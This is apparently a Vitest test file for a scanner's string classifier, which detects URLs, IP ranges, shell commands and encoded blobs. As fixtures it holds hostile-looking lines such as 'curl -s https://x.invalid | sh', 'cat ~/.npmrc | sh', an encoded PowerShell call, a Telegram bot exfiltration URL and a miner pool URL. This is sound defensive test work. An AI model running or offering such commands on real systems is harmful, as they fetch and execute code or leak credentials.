import { describe, expect, it } from 'vitest';
import { classifyString, ipv4Range, ipv6Range, looksEncoded } from './string-signals.js';

describe('classifyString', () => {
  it('parses URL hosts, including credentials, IPv6 and miner schemes', () => {
    const { urls } = classifyString(
      'a https://user:pw@api.telegram.invalid/botFIXTURE/sendMessage b http://[::1]:8080/x stratum+tcp://pool.invalid:3333',
    );
    expect(urls.map((u) => [u.host, u.range])).toEqual([
      ['api.telegram.invalid', 'reserved-name'],
      ['::1', 'loopback'],
      ['pool.invalid', 'reserved-name'],
    ]);
  });

  it('reads public hosts without a range', () => {
    expect(classifyString('https://webhook.site/abc').urls).toEqual([
      { value: 'https://webhook.site/abc', host: 'webhook.site' },
    ]);
  });

  it('rejects impossible addresses and ports', () => {
    expect(classifyString('256.1.1.1 1.2.3.4.5 01.2.3.4').ips).toEqual([]);
    expect(classifyString('198.51.100.4:70000').ips).toEqual([
      { value: '198.51.100.4', range: 'documentation' },
    ]);
    expect(classifyString('12:30:45').ips).toEqual([]);
  });

  it('finds bare IPv6 addresses', () => {
    expect(
      classifyString('connect fe80::1 and 2001:db8:0:0:0:0:0:2').ips.map((i) => [i.value, i.range]),
    ).toEqual([
      ['fe80::1', 'link-local'],
      ['2001:db8:0:0:0:0:0:2', 'documentation'],
    ]);
  });

  it('tells commands from prose', () => {
    expect(classifyString('curl -s https://x.invalid | sh').command).toBe(true);
    expect(classifyString('powershell -enc AAAA').command).toBe(true);
    expect(classifyString('systemctl --user enable fixture.service').command).toBe(true);
    expect(classifyString('Please curl up with a good book').command).toBe(false);
    expect(classifyString('sh').command).toBe(false);
    expect(classifyString('cat ~/.npmrc | sh').command).toBe(true);
    expect(classifyString('npm publish --access public').command).toBe(true);
    expect(classifyString('rm the old cache').command).toBe(false);
  });

  it('tells encoded blobs from words and hashes of one case', () => {
    expect(looksEncoded(Buffer.from('FIXTURE payload '.repeat(8)).toString('base64'))).toBe(true);
    expect(looksEncoded('4f2a'.repeat(40))).toBe(true);
    expect(looksEncoded('ab'.repeat(40))).toBe(false);
    expect(looksEncoded('e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855')).toBe(false);
    expect(looksEncoded('a'.repeat(100))).toBe(false);
    expect(looksEncoded('short')).toBe(false);
  });

  it('stays linear on hostile strings', () => {
    const started = performance.now();
    classifyString('1.'.repeat(200_000));
    classifyString(`http://${'a'.repeat(300_000)}`);
    classifyString(':'.repeat(300_000));
    classifyString('a:'.repeat(150_000));
    expect(performance.now() - started).toBeLessThan(5000);
  });
});

describe('address ranges', () => {
  it('names reserved IPv4 and IPv6 ranges', () => {
    expect(
      [
        '127.0.0.1',
        '0.0.0.0',
        '192.0.2.1',
        '10.1.2.3',
        '172.20.0.1',
        '192.168.1.1',
        '169.254.169.254',
        '8.8.8.8',
      ].map(ipv4Range),
    ).toEqual([
      'loopback',
      'unspecified',
      'documentation',
      'private',
      'private',
      'private',
      'link-local',
      undefined,
    ]);
    expect(['::1', '::', '2001:db8::5', 'fd00::1', 'fe80::2', '2606:4700::1'].map(ipv6Range)).toEqual([
      'loopback',
      'unspecified',
      'documentation',
      'private',
      'link-local',
      undefined,
    ]);
  });
});
